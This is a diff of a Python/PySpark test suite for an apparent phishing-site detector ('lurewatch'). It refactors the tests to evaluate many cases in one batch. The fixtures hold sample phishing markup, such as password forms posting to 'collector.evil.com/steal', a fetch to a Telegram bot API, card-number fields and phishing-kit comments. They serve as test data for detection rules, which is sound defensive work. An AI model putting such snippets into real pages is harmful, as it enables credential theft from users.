@@ -13,181 +13,230 @@ AS_OF = "2026-01-15 12:00:00"
 NAMES = [n for n, _ in RULE_ORDER]
 
 
-def make(spark, host="phish-testbrand.com", html="", alt_html=None, status=200, headers=None, history=None,
-         final_url=None, dns=None, ptr=(), cert=None, rdap=None, favicon=None, cname=(), ct=None, robots=None,
-         rules=TEST_RULES):
-    headers = headers or {}
-    final_url = final_url if final_url is not None else f"http://{host}"
-    http = [(host, "primary", None, status, headers, html, history or [], final_url, 0.0),
-            (host, "alternative", None, 200, {}, html if alt_html is None else alt_html, [], final_url, 0.0)]
-    if robots is not None:
-        http.append((host, "robots", None, 200, {}, robots, [], final_url, 0.0))
+DEFAULT_DNS = [("A", 0, "1.2.3.4", 300, "NOERROR"), ("NS", 0, "ns1.example.com.", 300, "NOERROR")]
+
+
+def make_many(spark, cases, rules=TEST_RULES):
+    """One context for several cases (distinct hosts), built from capture tables holding every case's rows."""
     from lurewatch.operators import captures as cap
-    caps = Captures(http=spark.createDataFrame(http, cap.HTTP_SCHEMA))
-    dns = dns if dns is not None else [("A", 0, "1.2.3.4", 300, "NOERROR"), ("NS", 0, "ns1.example.com.", 300, "NOERROR")]
-    caps.dns_records = spark.createDataFrame(
-        [(host, host if not q.startswith("_") else "_dmarc." + host, q.lstrip("_"), p, d, t, rc)
-         for q, p, d, t, rc in dns], cap.DNS_SCHEMA)
-    caps.ptr_records = spark.createDataFrame(list(ptr), cap.PTR_SCHEMA)
-    if cert is not None:
-        caps.cert = spark.createDataFrame([(host, cert.get("body"), cert.get("error"))], cap.CERT_INPUT_SCHEMA)
-    if rdap is not None:
-        caps.rdap = spark.createDataFrame([(host, rdap[0], rdap[1])], cap.RDAP_SCHEMA.format(key="host"))
-        caps.rdap_key = "host"
-    if favicon is not None:
-        caps.favicon = spark.createDataFrame([(host, favicon[0], favicon[1])], cap.FAVICON_SCHEMA)
+    http, dns_rows, ptr_rows, cert, rdap, fav, cname, ct = [], [], [], [], [], [], [], []
+    hosts = [c["host"] for c in cases]
+    assert len(set(hosts)) == len(hosts), "hosts of a batch must be distinct"
+    for c in cases:
+        host = c["host"]
+        html = c.get("html", "")
+        final_url = c.get("final_url", f"http://{host}")
+        alt = c.get("alt_html")
+        http.append((host, "primary", None, c.get("status", 200), c.get("headers") or {}, html, c.get("history") or [],
+                     final_url, 0.0))
+        http.append((host, "alternative", None, 200, {}, html if alt is None else alt, [], final_url, 0.0))
+        if c.get("robots") is not None:
+            http.append((host, "robots", None, 200, {}, c["robots"], [], final_url, 0.0))
+        for q, pos, d, t, rc in (c["dns"] if c.get("dns") is not None else DEFAULT_DNS):
+            dns_rows.append((host, host if not q.startswith("_") else "_dmarc." + host, q.lstrip("_"), pos, d, t, rc))
+        ptr_rows.extend(c.get("ptr", ()))
+        if c.get("cert") is not None:
+            cert.append((host, c["cert"].get("body"), c["cert"].get("error")))
+        if c.get("rdap") is not None:
+            rdap.append((host, *c["rdap"]))
+        if c.get("favicon") is not None:
+            fav.append((host, *c["favicon"]))
+        cname.extend(c.get("cname", ()))
+        if c.get("ct") is not None:
+            ct.append((host, *c["ct"]))
+    caps = Captures(http=spark.createDataFrame(http, cap.HTTP_SCHEMA),
+                    dns_records=spark.createDataFrame(dns_rows, cap.DNS_SCHEMA),
+                    ptr_records=spark.createDataFrame(ptr_rows, cap.PTR_SCHEMA), rdap_key="host", ct_key="host")
+    if cert:
+        caps.cert = spark.createDataFrame(cert, cap.CERT_INPUT_SCHEMA)
+    if rdap:
+        caps.rdap = spark.createDataFrame(rdap, cap.RDAP_SCHEMA.format(key="host"))
+    if fav:
+        caps.favicon = spark.createDataFrame(fav, cap.FAVICON_SCHEMA)
     if cname:
-        caps.cname_records = spark.createDataFrame(list(cname), cap.CNAME_SCHEMA)
-    if ct is not None:
-        caps.ct = spark.createDataFrame([(host, ct[0], ct[1])], cap.CT_SCHEMA.format(key="host"))
-        caps.ct_key = "host"
-    hosts = spark.createDataFrame([(host,)], "host string")
-    return build_context(hosts, caps, rules)
+        caps.cname_records = spark.createDataFrame(cname, cap.CNAME_SCHEMA)
+    if ct:
+        caps.ct = spark.createDataFrame(ct, cap.CT_SCHEMA.format(key="host"))
+    return build_context(spark.createDataFrame([(h,) for h in hosts], "host string"), caps, rules)
 
 
-def results(ctx, rules=TEST_RULES):
-    ev = evaluate_rules(ctx, rules, as_of_lit(AS_OF)).first()
+def make(spark, host="phish-testbrand.com", rules=TEST_RULES, **kw):
+    return make_many(spark, [dict(kw, host=host)], rules)
+
+
+def _outcomes(row):
     out = {}
     for i, n in enumerate(NAMES, 1):
-        r = ev[f"_r{i:02d}"]
+        r = row[f"_r{i:02d}"]
         out[n] = "scam" if r.scam else "benign" if r.benign else "suspicious" if r.suspicious else None
     return out
 
 
+def results(ctx, rules=TEST_RULES):
+    return _outcomes(evaluate_rules(ctx, rules, as_of_lit(AS_OF)).first())
+
+
 def rule(spark, name, **kw):
     return results(make(spark, **kw))[name]
 
 
+def rules_many(spark, name, cases):
+    """Outcome of rule ``name`` for each case, evaluated in one job; cases without a host get a neutral one."""
+    cases = [dict(c, host=c.get("host", f"c{i}-phish-testbrand.com")) for i, c in enumerate(cases)]
+    rows = evaluate_rules(make_many(spark, cases), TEST_RULES, as_of_lit(AS_OF)).collect()
+    by_host = {r.host: _outcomes(r)[name] for r in rows}
+    return [by_host[c["host"]] for c in cases]
+
+
 def test_forms_and_exfil(spark):
-    assert rule(spark, "forms_and_exfil", html='<input type="password" name="pass"> '
-                '<script>fetch("api.telegram.org/bot...")</script>') == "scam"
-    assert rule(spark, "forms_and_exfil", host="victim-brand.com",
-                html='<form action="https://collector.evil.com/steal"><input type="password"></form>') == "scam"
-    assert rule(spark, "forms_and_exfil", html='<input name="ccnum"> mailto:x') == "scam"
-    assert rule(spark, "forms_and_exfil", html='<input type="password">') == "suspicious"
-    assert rule(spark, "forms_and_exfil", html="Please enter your 2fa code to continue.") == "suspicious"
-    assert rule(spark, "forms_and_exfil", html="window.ethereum.enable()") == "suspicious"
-    assert rule(spark, "forms_and_exfil", html="Hello world") is None
-    assert rule(spark, "forms_and_exfil", html='<form action="/local"></form> mailto:x') is None
+    got = rules_many(spark, "forms_and_exfil", [
+        dict(html='<input type="password" name="pass"> <script>fetch("api.telegram.org/bot...")</script>'),
+        dict(host="victim-brand.com",
+             html='<form action="https://collector.evil.com/steal"><input type="password"></form>'),
+        dict(html='<input name="ccnum"> mailto:x'),
+        dict(html='<input type="password">'),
+        dict(html="Please enter your 2fa code to continue."),
+        dict(html="window.ethereum.enable()"),
+        dict(html="Hello world"),
+        dict(html='<form action="/local"></form> mailto:x')])
+    assert got == ["scam", "scam", "scam", "suspicious", "suspicious", "suspicious", None, None]
 
 
 def test_phishing_kit(spark):
-    assert rule(spark, "phishing_kit", html="<!-- phishing kit by l33t phisher -->") == "scam"
-    assert rule(spark, "phishing_kit", html="tg://resolve?domain=scammer") == "scam"
-    assert rule(spark, "phishing_kit", html="<!-- by elite phisher -->") == "scam"
-    assert rule(spark, "phishing_kit", final_url="http://evil.com/owa/login") == "suspicious"
-    assert rule(spark, "phishing_kit", final_url="http://evil.com/home") is None
+    got = rules_many(spark, "phishing_kit", [
+        dict(html="<!-- phishing kit by l33t phisher -->"), dict(html="tg://resolve?domain=scammer"),
+        dict(html="<!-- by elite phisher -->"), dict(final_url="http://evil.com/owa/login"),
+        dict(final_url="http://evil.com/home")])
+    assert got == ["scam", "scam", "scam", "suspicious", None]
 
 
 def test_favicon(spark):
     sha = hashlib.sha1(b"icon").hexdigest()
     rules = TEST_RULES.with_(favicon_hashes=(sha,))
-    ctx = make(spark, host="evil.com", favicon=(200, b"icon"), rules=rules)
-    assert results(ctx, rules)["favicon_brand_mismatch"] == "scam"
-    ctx = make(spark, host="testbrand.com", favicon=(200, b"icon"), rules=rules)
-    assert results(ctx, rules)["favicon_brand_mismatch"] is None
-    assert rule(spark, "favicon_brand_mismatch", favicon=(200, b"other")) is None
+    ctx = make_many(spark, [dict(host="evil.com", favicon=(200, b"icon")),
+                            dict(host="testbrand.com", favicon=(200, b"icon")),
+                            dict(host="other.com", favicon=(200, b"other"))], rules)
+    got = {r.host: _outcomes(r)["favicon_brand_mismatch"]
+           for r in evaluate_rules(ctx, rules, as_of_lit(AS_OF)).collect()}
+    assert got == {"evil.com": "scam", "testbrand.com": None, "other.com": None}
 
 
 def test_inactive(spark):
-    for st in (404, 500, 301):
-        assert rule(spark, "inactive_domain", status=st) == "benign"
-    # a DNS capture whose queries all came back without answers (no rows at all = no capture = neutral)
-    assert rule(spark, "inactive_domain", dns=[("A", 0, None, None, "NODATA")]) == "benign"
-    assert rule(spark, "inactive_domain", dns=[("A", 0, None, None, "NOERROR"), ("_TXT", 0, None, None, "NXDOMAIN")]) \
-        == "benign"
-    assert rule(spark, "inactive_domain") is None
+    got = rules_many(spark, "inactive_domain", [
+        dict(status=404), dict(status=500), dict(status=301),
+        # a DNS capture whose queries all came back without answers (no rows at all = no capture = neutral)
+        dict(dns=[("A", 0, None, None, "NODATA")]),
+        dict(dns=[("A", 0, None, None, "NOERROR"), ("_TXT", 0, None, None, "NXDOMAIN")]),
+        dict()])
+    assert got == ["benign"] * 5 + [None]
 
 
 def test_parking_and_verified(spark):
-    assert rule(spark, "parking_detect", html="DOMAIN FOR SALE") == "benign"
-    assert rule(spark, "parking_detect", headers={"Server": "sedo parking"}) == "benign"
-    assert rule(spark, "parking_detect", html="Welcome to our website.") is None
     org = '{"subject":[[["organizationName","Acme Corp."]]]}'
-    assert rule(spark, "long_lived_or_verified", cert={"body": org}) == "benign"
-    assert rule(spark, "long_lived_or_verified", cert={"body": org, "error": "timeout"}) is None
-    assert rule(spark, "long_lived_or_verified", headers={"Strict-Transport-Security": "max-age=1"}) == "benign"
+    assert rules_many(spark, "parking_detect", [
+        dict(html="DOMAIN FOR SALE"), dict(headers={"Server": "sedo parking"}),
+        dict(html="Welcome to our website.")]) == ["benign", "benign", None]
+    assert rules_many(spark, "long_lived_or_verified", [
+        dict(cert={"body": org}), dict(cert={"body": org, "error": "timeout"}),
+        dict(headers={"Strict-Transport-Security": "max-age=1"})]) == ["benign", None, "benign"]
 
 
 def test_lookalike_punycode_tokens(spark):
-    for h in ("testbr4nd.com", "testbrand.com", "testbran1.com"):
-        assert rule(spark, "brand_lookalike", host=h) == "suspicious"
-    assert rule(spark, "brand_lookalike", host="aaaabbbbccccddddeeeeffff.com") is None
-    assert rule(spark, "punycode", host="xn--dbs-abc.com") == "suspicious"
-    assert rule(spark, "punycode", host="login.xn--dbs.com") == "suspicious"
-    assert rule(spark, "punycode", host="evil-testbrand.com") is None
-    assert rule(spark, "forbidden_tokens", host="login-testbrand.com") == "suspicious"
-    assert rule(spark, "forbidden_tokens", html="please verify") == "suspicious"
-    assert rule(spark, "forbidden_tokens", html="Buy our products today.") is None
+    assert rules_many(spark, "brand_lookalike", [
+        dict(host="testbr4nd.com"), dict(host="testbrand.com"), dict(host="testbran1.com"),
+        dict(host="aaaabbbbccccddddeeeeffff.com")]) == ["suspicious"] * 3 + [None]
+    assert rules_many(spark, "punycode", [
+        dict(host="xn--dbs-abc.com"), dict(host="login.xn--dbs.com"),
+        dict(host="evil-testbrand.com"), dict(host="")]) == ["suspicious", "suspicious", None, None]
+    assert rules_many(spark, "forbidden_tokens", [
+        dict(host="login-testbrand.com"), dict(html="please verify"),
+        dict(html="Buy our products today.")]) == ["suspicious", "suspicious", None]
 
 
 def test_cloaking(spark):
-    assert rule(spark, "redirect_and_cloaking", history=[301, 302]) == "suspicious"
-    assert rule(spark, "redirect_and_cloaking", html="word1 " * 200, alt_html="thing1 " * 200) == "suspicious"
-    assert rule(spark, "redirect_and_cloaking", history=[301]) is None
-    assert rule(spark, "redirect_and_cloaking", html="short a", alt_html="short b") is None
+    assert rules_many(spark, "redirect_and_cloaking", [
+        dict(history=[301, 302]), dict(html="word1 " * 200, alt_html="thing1 " * 200),
+        dict(history=[301]), dict(html="short a", alt_html="short b")]) == ["suspicious", "suspicious", None, None]
 
 
 def test_ages(spark):
     reg = '{"events":[{"eventAction":"registration","eventDate":"%s"}]}'
-    assert rule(spark, "domain_age", rdap=(200, reg % "2026-01-05T12:00:00Z")) == "suspicious"
-    assert rule(spark, "domain_age", rdap=(200, reg % "2025-11-16T12:00:00Z")) is None
-    assert rule(spark, "domain_age", rdap=(404, "")) is None
+    assert rules_many(spark, "domain_age", [
+        dict(rdap=(200, reg % "2026-01-05T12:00:00Z")), dict(rdap=(200, reg % "2025-11-16T12:00:00Z")),
+        dict(rdap=(404, "")), dict(rdap=(200, '{"events":[]}'))]) == ["suspicious", None, None, None]
     nb = '{"notBefore":"%s"}'
-    assert rule(spark, "cert_age", cert={"body": nb % "Jan  5 12:00:00 2026 GMT"}) == "suspicious"
-    assert rule(spark, "cert_age", cert={"body": nb % "Dec 16 12:00:00 2025 GMT"}) is None  # exactly 30 days
-    assert rule(spark, "cert_age", cert={"body": nb % "garbage"}) is None
+    assert rules_many(spark, "cert_age", [
+        dict(cert={"body": nb % "Jan  5 12:00:00 2026 GMT"}),
+        dict(cert={"body": nb % "Dec 16 12:00:00 2025 GMT"}),  # exactly 30 days
+        dict(cert={"body": nb % "garbage"})]) == ["suspicious", None, None]
 
 
 def test_density_https_tld_title(spark):
     html = "testbrand " * 20 + "other " * 20
-    assert rule(spark, "brand_content_density", host="phishing.example.com", html=html) == "suspicious"
-    assert rule(spark, "brand_content_density", host="app.testbrand.com", html=html) is None
-    assert rule(spark, "https_login", html="<input TYPE='PASSWORD'>") == "suspicious"
-    assert rule(spark, "https_login", html="<input type=password>", final_url="https://x.com") is None
-    assert rule(spark, "suspicious_tld", host="evil.xyz") == "suspicious"
-    assert rule(spark, "suspicious_tld", host="evil.io") is None
+    few = "testbrand " * 2 + "word " * 198
+    assert rules_many(spark, "brand_content_density", [
+        dict(host="phishing.example.com", html=html), dict(host="app.testbrand.com", html=html),
+        dict(host="phishing2.example.com", html=few)]) == ["suspicious", None, None]
+    assert rules_many(spark, "https_login", [
+        dict(html="<input TYPE='PASSWORD'>"),
+        dict(html="<input type=password>", final_url="https://x.com")]) == ["suspicious", None]
+    assert rules_many(spark, "suspicious_tld", [dict(host="evil.xyz"), dict(host="evil.io")]) == ["suspicious", None]
     t = "<title>TestBrand Online Banking</title>"
-    assert rule(spark, "title_brand_mismatch", host="evil.com", html=t) == "suspicious"
-    assert rule(spark, "title_brand_mismatch", host="testbrand.com", html=t) is None
+    assert rules_many(spark, "title_brand_mismatch", [
+        dict(host="evil.com", html=t), dict(host="testbrand.com", html=t),
+        dict(host="evil2.com", html="<title>Other page</title>"),
+        dict(host="evil3.com", html="no title here testbrand")]) == ["suspicious", None, None, None]
 
 
 def test_cname_ct(spark):
-    h = "phish-testbrand.com"
-    chain = [(h, "edge.bulletproof-host.net.")]
-    assert rule(spark, "bulletproof_host", cname=chain) == "suspicious"
-    assert rule(spark, "bulletproof_host", cname=[(h, "cdn.example.net.")]) is None
-    assert rule(spark, "ct_history", ct=(200, '[{"not_before":"2024-01-01"}]')) == "suspicious"
+    assert rules_many(spark, "bulletproof_host", [
+        dict(host="a-testbrand.com", cname=[("a-testbrand.com", "edge.bulletproof-host.net.")]),
+        dict(host="b-testbrand.com", cname=[("b-testbrand.com", "cdn.example.net.")]),
+        dict(host="c-testbrand.com")]) == ["suspicious", None, None]
     two = '[{"not_before":"2024-01-01"},{"entry_timestamp":"2023-06-15"}]'
     reg = '{"events":[{"eventAction":"registration","eventDate":"2026-01-10"}]}'
-    assert rule(spark, "ct_history", ct=(200, two), rdap=(200, reg)) == "suspicious"
-    assert rule(spark, "ct_history", ct=(200, two)) is None
-    assert rule(spark, "ct_history", ct=(200, "[]")) is None
+    many = "[" + ",".join('{"not_before":"2024-01-01"}' for _ in range(5)) + "]"
+    assert rules_many(spark, "ct_history", [
+        dict(ct=(200, '[{"not_before":"2024-01-01"}]')), dict(ct=(200, two), rdap=(200, reg)),
+        dict(ct=(200, two)), dict(ct=(200, "[]")), dict(ct=(200, many))]) == ["suspicious", "suspicious",
+                                                                              None, None, None]
 
 
 def test_dns_rules(spark):
     five = [("A", i, f"1.2.3.{i}", 3600, "NOERROR") for i in range(5)]
-    assert rule(spark, "dns_email_posture", dns=five) == "suspicious"
-    assert rule(spark, "dns_email_posture", dns=[("A", 0, "1.2.3.4", 60, "NOERROR")]) == "suspicious"
     mx = [("A", 0, "1.2.3.4", 3600, "NOERROR"), ("MX", 0, "aspmx.l.google.com.", 3600, "NOERROR")]
-    assert rule(spark, "dns_email_posture", dns=mx) == "suspicious"  # MX and no DMARC
-    assert rule(spark, "dns_email_posture", dns=[("A", 0, "1.2.3.4", 3600, "NOERROR")]) is None
-    assert rule(spark, "freemail_mx", dns=mx) == "suspicious"
-    assert rule(spark, "freemail_mx", dns=[("MX", 0, "mx.corp.example.", 300, "NOERROR")]) is None
-    assert rule(spark, "reverse_dns_mismatch") == "suspicious"
-    assert rule(spark, "reverse_dns_mismatch", ptr=[("1.2.3.4", "h.isp.net.")]) is None
+    assert rules_many(spark, "dns_email_posture", [
+        dict(dns=five), dict(dns=[("A", 0, "1.2.3.4", 60, "NOERROR")]),
+        dict(dns=mx),  # MX and no DMARC
+        dict(dns=[("A", 0, "1.2.3.4", 3600, "NOERROR")]),
+        dict(dns=[("A", 0, "1.2.3.4", 3600, "NOERROR"), ("_TXT", 0, None, None, "NXDOMAIN")]),
+        dict(dns=[("A", 0, "1.2.3.4", 3600, "NOERROR"), ("MX", 0, "mx.corp.example.", 3600, "NOERROR"),
+                  ("TXT", 0, "v=spf1 +all", 3600, "NOERROR"), ("_TXT", 0, "v=DMARC1; p=reject", 3600, "NOERROR")]),
+    ]) == ["suspicious", "suspicious", "suspicious", None, None, "suspicious"]
+    assert rules_many(spark, "freemail_mx", [
+        dict(dns=mx), dict(dns=[("MX", 0, "mx.corp.example.", 300, "NOERROR")]),
+        dict(dns=[("NS", 0, "ns.example.", 300, "NOERROR")])]) == ["suspicious", None, None]
+    assert rules_many(spark, "reverse_dns_mismatch", [
+        # PTR rows are keyed by address, so the case with a PTR gets its own address
+        dict(), dict(host="p-testbrand.com", dns=[("A", 0, "5.6.7.8", 300, "NOERROR")], ptr=[("5.6.7.8", "h.isp.net.")]),
+        dict(dns=[("NS", 0, "ns.example.", 300, "NOERROR")])]) == ["suspicious", None, None]
 
 
 def test_tls_depth_headers_robots(spark):
     cn = '{"subject":[[["commonName","testbrand-secure-login"]]]}'
-    assert rule(spark, "tls_cert", host="phishing.example.com", cert={"body": cn}) == "suspicious"
-    assert rule(spark, "tls_cert", host="testbrand.com", cert={"body": cn}) is None
-    assert rule(spark, "subdomain_depth", host="a.b.c") == "suspicious"
-    assert rule(spark, "subdomain_depth", host="evil.com") is None
-    assert rule(spark, "missing_security_headers") == "suspicious"
-    assert rule(spark, "missing_security_headers", headers={"X-Frame-Options": "DENY"}) is None
-    assert rule(spark, "no_robots_txt") == "suspicious"
-    assert rule(spark, "no_robots_txt", robots="User-agent: *") is None
+    assert rules_many(spark, "tls_cert", [
+        dict(host="phishing.example.com", cert={"body": cn}), dict(host="testbrand.com", cert={"body": cn}),
+        dict(host="p2.example.com", cert={"body": '{"subject":[[["commonName","other"]]]}'}),
+        dict(host="p3.example.com", cert={"body": cn, "error": "x"})]) == ["suspicious", None, None, None]
+    assert rules_many(spark, "subdomain_depth", [dict(host="a.b.c"), dict(host="evil.com"), dict(host="")]) == \
+        ["suspicious", None, None]
+    all3 = {"content-security-policy": "x", "x-frame-options": "y", "x-content-type-options": "z"}
+    assert rules_many(spark, "missing_security_headers", [
+        dict(), dict(headers={"X-Frame-Options": "DENY"}), dict(headers=all3), dict(status=404)]) == \
+        ["suspicious", None, None, None]
+    assert rules_many(spark, "no_robots_txt", [
+        dict(), dict(robots="User-agent: *"), dict(status=404),
+        dict(dns=[("NS", 0, "ns.example.", 300, "NOERROR")])]) == ["suspicious", None, None, None]
 
 
 def test_verdicts(spark):
@@ -237,31 +286,3 @@ def test_score_threshold_with_custom_registry(spark):
     v = classify(df.where("host = 'f0f1f2.com'").selectExpr("'f9f0f1f2.com' AS host"), TEST_RULES,
                  as_of_lit(AS_OF), reg2).first()
     assert v.verdict == "benign" and v.decided_by == "r9"
-
-
-def test_rule_negatives(spark):
-    r = results(make(spark, host="", html=""))
-    assert r["punycode"] is None and r["subdomain_depth"] is None
-    r = results(make(spark, status=404, dns=[("A", 0, "1.2.3.4", 300, "NOERROR")]))
-    assert r["missing_security_headers"] is None and r["no_robots_txt"] is None
-    r = results(make(spark, dns=[("NS", 0, "ns.example.", 300, "NOERROR")]))
-    assert r["reverse_dns_mismatch"] is None and r["no_robots_txt"] is None and r["freemail_mx"] is None
-    assert rule(spark, "dns_email_posture", dns=[("A", 0, "1.2.3.4", 3600, "NOERROR"),
-                                               ("_TXT", 0, None, None, "NXDOMAIN")]) is None
-    assert rule(spark, "dns_email_posture", dns=[("A", 0, "1.2.3.4", 3600, "NOERROR"),
-                                               ("MX", 0, "mx.corp.example.", 3600, "NOERROR"),
-                                               ("TXT", 0, "v=spf1 +all", 3600, "NOERROR"),
-                                               ("_TXT", 0, "v=DMARC1; p=reject", 3600, "NOERROR")]) == "suspicious"
-    headers = {"content-security-policy": "x", "x-frame-options": "y", "x-content-type-options": "z"}
-    assert rule(spark, "missing_security_headers", headers=headers) is None
-    assert rule(spark, "tls_cert", host="phishing.example.com",
-                cert={"body": '{"subject":[[["commonName","other"]]]}'}) is None
-    assert rule(spark, "tls_cert", host="phishing.example.com",
-                cert={"body": '{"subject":[[["commonName","testbrand"]]]}', "error": "x"}) is None
-    many = "[" + ",".join('{"not_before":"2024-01-01"}' for _ in range(5)) + "]"
-    assert rule(spark, "ct_history", ct=(200, many)) is None
-    assert rule(spark, "title_brand_mismatch", host="evil.com", html="<title>Other page</title>") is None
-    assert rule(spark, "title_brand_mismatch", host="evil.com", html="no title here testbrand") is None
-    few = "testbrand " * 2 + "word " * 198
-    assert rule(spark, "brand_content_density", host="phishing.example.com", html=few) is None
-    assert rule(spark, "domain_age", rdap=(200, '{"events":[]}')) is None
